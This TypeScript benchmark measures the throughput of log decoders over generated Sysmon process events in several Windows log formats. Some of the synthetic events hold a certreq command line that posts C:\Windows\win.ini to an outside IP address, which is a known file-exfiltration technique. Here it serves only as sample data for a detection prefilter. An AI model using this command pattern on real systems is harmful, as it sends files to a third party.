/**
 * Decoder throughput (src/formats): decodeFile + toProcessEvent over generated files in the main dialects,
 * beside an in-process floor (read + UTF-8 decode + split lines + JSON.parse, nothing else).
 * Env: PROCWATCH_BENCH_FORMATS_EVENTS (default 200000 JSON events; XML and evtx_dump use a quarter).
 * Figures are wall-clock on a shared machine: compare ratios, not absolute numbers.
 */
import { createReadStream, createWriteStream, existsSync, statSync } from 'node:fs';
import { once } from 'node:events';
import { join } from 'node:path';
import { decodeFile, type DecodeOptions } from '../src/formats/index.js';
import { toProcessEvent } from '../src/model/toProcess.js';
import { dataDir, fmt } from './lib.js';

const EVENTS = Number(process.env['PROCWATCH_BENCH_FORMATS_EVENTS'] ?? 200_000);

function sysmonData(i: number): Record<string, string> {
  const certreq = i % 1000 === 999;
  return {
    RuleName: '-',
    UtcTime: new Date(Date.UTC(2024, 4, 1) + i * 37).toISOString().replace('T', ' ').slice(0, 23),
    ProcessGuid: `{9F32B55F-7C4E-5F98-${(i % 65536).toString(16).padStart(4, '0').toUpperCase()}-${String(i).padStart(12, '0')}}`,
    ProcessId: String(1000 + (i % 60000)),
    Image: certreq ? 'C:\\Windows\\System32\\certreq.exe' : 'C:\\Windows\\System32\\cmd.exe',
    OriginalFileName: certreq ? 'CertReq.exe' : 'Cmd.Exe',
    CommandLine: certreq ? 'certreq -Post -config https://198.51.100.7/ C:\\Windows\\win.ini out.txt' : `cmd.exe /c "dir C:\\Users\\Public\\${i} > C:\\Temp\\out.txt"`,
    CurrentDirectory: 'C:\\Users\\alice\\',
    User: 'CORP\\alice',
    IntegrityLevel: 'Medium',
    Hashes: 'SHA256=B6D237154F2E528F0B503B58B025862D66B02B73B6D237154F2E528F0B503B58',
    ParentProcessGuid: '{9F32B55F-6FDF-5F98-7000-000000000500}',
    ParentProcessId: '4212',
    ParentImage: 'C:\\Windows\\explorer.exe',
    ParentCommandLine: 'C:\\Windows\\Explorer.EXE',
  };
}

function time(i: number): string {
  return new Date(Date.UTC(2024, 4, 1) + i * 37).toISOString();
}

function ecsIngested(i: number): string {
  const d = sysmonData(i);
  return JSON.stringify({
    '@timestamp': time(i),
    event: { category: ['process'], code: '1', kind: 'event', module: 'sysmon', provider: 'Microsoft-Windows-Sysmon', type: ['start'] },
    host: { name: `WS${i % 97}.corp.example` },
    process: {
      command_line: d['CommandLine'], entity_id: d['ProcessGuid'], executable: d['Image'], pid: Number(d['ProcessId']), working_directory: d['CurrentDirectory'],
      pe: { original_file_name: d['OriginalFileName'] }, hash: { sha256: 'b6d237154f2e528f0b503b58b025862d66b02b73b6d237154f2e528f0b503b58' },
      parent: { command_line: d['ParentCommandLine'], entity_id: d['ParentProcessGuid'], executable: d['ParentImage'], pid: 4212 },
    },
    user: { domain: 'CORP', name: 'alice' },
    winlog: {
      channel: 'Microsoft-Windows-Sysmon/Operational', computer_name: `WS${i % 97}.corp.example`, event_id: '1', provider_name: 'Microsoft-Windows-Sysmon',
      record_id: String(i + 1), event_data: { IntegrityLevel: 'Medium', LogonId: '0x2c9e7', TerminalSessionId: '1' },
    },
  });
}

function winlogbeatRaw(i: number): string {
  return JSON.stringify({
    '@timestamp': time(i),
    winlog: { channel: 'Microsoft-Windows-Sysmon/Operational', computer_name: `WS${i % 97}`, event_id: 1, provider_name: 'Microsoft-Windows-Sysmon', record_id: i + 1, event_data: sysmonData(i) },
  });
}

function xmlEvent(i: number): string {
  const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
  const data = Object.entries(sysmonData(i)).map(([k, v]) => `    <Data Name="${k}">${esc(v)}</Data>`).join('\n');
  return `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">\n  <System>\n    <Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385f-c22a-43e0-bf4c-06f5698ffbd9}" />\n    <EventID>1</EventID>\n    <TimeCreated SystemTime="${time(i)}" />\n    <EventRecordID>${i + 1}</EventRecordID>\n    <Execution ProcessID="2840" ThreadID="3512" />\n    <Channel>Microsoft-Windows-Sysmon/Operational</Channel>\n    <Computer>WS${i % 97}</Computer>\n  </System>\n  <EventData>\n${data}\n  </EventData>\n</Event>`;
}

function evtxDumpPretty(i: number): string {
  const doc = {
    Event: {
      System: {
        Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } }, EventID: 1, TimeCreated: { '#attributes': { SystemTime: time(i) } },
        EventRecordID: i + 1, Execution: { '#attributes': { ProcessID: 2840, ThreadID: 3512 } }, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: `WS${i % 97}`,
      },
      EventData: sysmonData(i),
    },
  };
  return `Record ${i + 1}\n${JSON.stringify(doc, null, 2)}`;
}

async function generate(path: string, count: number, write: (i: number) => string, prefix = '', suffix = ''): Promise<void> {
  if (existsSync(path)) return;
  const out = createWriteStream(path);
  out.write(prefix);
  let buf: string[] = [];
  for (let i = 0; i < count; i++) {
    buf.push(write(i));
    if (buf.length === 2000) {
      if (!out.write(`${buf.join('\n')}\n`)) await once(out, 'drain');
      buf = [];
    }
  }
  out.write(`${buf.join('\n')}\n${suffix}`);
  out.end();
  await once(out, 'finish');
}

interface Figures {
  events: number;
  processEvents: number;
  errors: number;
  seconds: number;
}

async function runDecode(path: string, options: DecodeOptions = {}): Promise<Figures> {
  const start = process.hrtime.bigint();
  let events = 0;
  let processEvents = 0;
  let errors = 0;
  for await (const item of decodeFile({ path }, options)) {
    if ('error' in item) errors++;
    else {
      events++;
      if (toProcessEvent(item.event) !== undefined) processEvents++;
    }
  }
  return { events, processEvents, errors, seconds: Number(process.hrtime.bigint() - start) / 1e9 };
}

/** The floor: read, decode UTF-8, split lines, JSON.parse each — what any JSON decoder must do. */
async function jsonParseFloor(path: string): Promise<Figures> {
  const start = process.hrtime.bigint();
  const decoder = new TextDecoder();
  let rest = '';
  let events = 0;
  for await (const chunk of createReadStream(path, { highWaterMark: 1 << 20 })) {
    const text = rest + decoder.decode(chunk as Buffer, { stream: true });
    let from = 0;
    let nl = text.indexOf('\n', from);
    while (nl !== -1) {
      if (nl > from) {
        JSON.parse(text.slice(from, nl));
        events++;
      }
      from = nl + 1;
      nl = text.indexOf('\n', from);
    }
    rest = text.slice(from);
  }
  return { events, processEvents: 0, errors: 0, seconds: Number(process.hrtime.bigint() - start) / 1e9 };
}

async function best(times: number, run: () => Promise<Figures>): Promise<Figures> {
  let b: Figures | undefined;
  for (let i = 0; i < times; i++) {
    const f = await run();
    if (b === undefined || f.seconds < b.seconds) b = f;
  }
  return b!;
}

async function main(): Promise<void> {
  const dir = dataDir();
  const small = Math.max(1000, Math.floor(EVENTS / 4));
  const files = {
    ecs: join(dir, `formats-ecs-${EVENTS}.ndjson`),
    raw: join(dir, `formats-winlogbeat-raw-${EVENTS}.ndjson`),
    xml: join(dir, `formats-wevtutil-${small}.xml`),
    dump: join(dir, `formats-evtx-dump-${small}.txt`),
  };
  await generate(files.ecs, EVENTS, ecsIngested);
  await generate(files.raw, EVENTS, winlogbeatRaw);
  await generate(files.xml, small, xmlEvent, '<?xml version="1.0" encoding="utf-8"?>\n<Events>\n', '</Events>\n');
  await generate(files.dump, small, evtxDumpPretty);

  // [name, file, records in the file, figures]; rates are over the records read, not the events kept.
  const rows: Array<[string, string, number, Figures]> = [
    ['floor: split + JSON.parse', files.ecs, EVENTS, await best(2, () => jsonParseFloor(files.ecs))],
    ['ECS (ingest pipeline)', files.ecs, EVENTS, await best(2, () => runDecode(files.ecs))],
    ['ECS + prefilter [certreq]', files.ecs, EVENTS, await best(2, () => runDecode(files.ecs, { prefilterLiterals: ['certreq'] }))],
    ['Winlogbeat raw', files.raw, EVENTS, await best(2, () => runDecode(files.raw))],
    ['wevtutil XML (pretty)', files.xml, small, await best(2, () => runDecode(files.xml))],
    ['evtx_dump text (pretty)', files.dump, small, await best(2, () => runDecode(files.dump))],
  ];
  console.log('decoder                     records   events  errors   seconds   records/s     MB/s');
  for (const [name, file, records, f] of rows) {
    const mb = statSync(file).size / 1e6;
    console.log(
      `${name.padEnd(27)} ${String(records).padStart(7)} ${String(f.events).padStart(8)} ${String(f.errors).padStart(7)} ${fmt(f.seconds, 2).padStart(9)} ${fmt(records / f.seconds, 0).padStart(11)} ${fmt(mb / f.seconds).padStart(8)}`,
    );
  }
  console.log(`peak RSS ${fmt(process.resourceUsage().maxRSS / 1024, 0)} MB (whole benchmark process)`);
}

await main();
